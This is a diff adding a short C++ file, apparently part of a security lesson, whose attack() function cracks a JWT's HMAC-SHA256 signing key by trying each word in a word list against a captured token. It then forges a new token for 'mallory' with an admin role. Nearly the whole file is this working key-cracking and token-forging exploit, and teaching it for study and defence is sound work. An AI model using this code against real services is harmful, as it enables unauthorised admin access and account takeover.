@@ -1,0 +1,31 @@
+// Believes: access_claims() writes payloads, so it writes this one, too.
+#include "access_claims.hpp"
+#include "hmac_sha256.hpp"
+#include "jwt/base64url.hpp"
+#include "make_header.hpp"
+#include "sign_compact.hpp"
+#include "weak_signing_key.hpp"
+
+namespace lesson {
+
+Loot attack(const Evidence& evidence) {
+  Loot loot{.greedy_login = evidence.own_login};
+  loot.greedy_login.set("role", "admin");
+
+  const auto last_dot = evidence.found_token.rfind('.');
+  const auto signed_text = evidence.found_token.substr(0, last_dot);
+  const auto signature = evidence.found_token.substr(last_dot + 1);
+  for (const auto& word : evidence.words) {
+    const Mac mac = hmac_sha256(bytes_of(word), bytes_of(signed_text));
+    if (jwt::base64url_encode(mac) == signature) loot.key = word;
+  }
+  if (loot.key.empty()) return loot;
+
+  const std::chrono::sys_seconds now{std::chrono::seconds{evidence.now}};
+  const auto claims = access_claims("mallory", std::chrono::minutes{15}, now, {{"role", "admin"}});
+  const auto header = make_header(), payload = claims.dump();
+  loot.forged_token = sign_compact({.header = header, .payload = payload}, bytes_of(loot.key));
+  return loot;
+}
+
+}  // namespace lesson
